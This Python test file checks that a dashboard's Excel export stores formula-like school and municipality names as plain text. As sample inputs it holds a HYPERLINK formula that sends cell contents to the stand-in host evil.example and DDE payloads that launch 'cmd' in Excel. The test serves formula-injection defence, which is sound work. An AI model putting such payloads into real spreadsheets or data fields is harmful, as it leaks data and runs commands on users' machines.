"""The dashboard's Excel export keeps text as text: a school or municipality name that looks like a formula
(set through the org import or ``apply_org``) must not become a live formula in a coordinator's Excel."""

from __future__ import annotations

import io
import zipfile

import openpyxl

from engine.actors import OPERATOR
from engine.db import Database
from engine.org.core import OrgData, apply_org
from engine.process import instances
from engine.templates import versions
from tests.conftest import make_org
from tests.helpers import ROADMAP, signed_in, with_passwords
from web.app import create_app

EVIL_SCHOOL = '=HYPERLINK("http://evil.example/?"&A3,"Открыть")'
EVIL_MUNICIPALITY = "+cmd|' /C calc'!A0"


def test_names_that_look_like_formulas_stay_text(db: Database) -> None:
    org = make_org(db)
    with_passwords(db, org)
    key = versions.deploy_template(db, versions.read_bundle(ROADMAP), actor=OPERATOR).key
    instances.start_instance(db, key, org.school, actor=OPERATOR)
    app = create_app({"DATABASE": db, "TESTING": True, "SECRET_KEY": "xlsx", "SESSION_COOKIE_SECURE": False})
    apply_org(db, OrgData(municipalities=[(org.municipality, EVIL_MUNICIPALITY, org.region)],
                          schools=[(org.school, EVIL_SCHOOL, org.municipality),
                                   (org.sibling_school, "@SUM(1+1)*cmd|' /C calc'!A0", org.municipality)]))
    export = signed_in(app, org.municipal).get(f"/dashboard/export.xlsx?municipality={org.municipality}")
    assert export.status_code == 200

    with zipfile.ZipFile(io.BytesIO(export.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml

    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    assert sheet is not None
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    school = cells[EVIL_SCHOOL]
    assert school.data_type == "s" and school.value == EVIL_SCHOOL
    assert school.quotePrefix  # stays text when someone edits the cell in Excel
    assert cells["@SUM(1+1)*cmd|' /C calc'!A0"].data_type == "s"
    title = next(value for value in cells if EVIL_MUNICIPALITY in value)  # the area's title row
    assert cells[title].data_type == "s"
    assert not cells["Школа"].quotePrefix  # ordinary text is left as it was
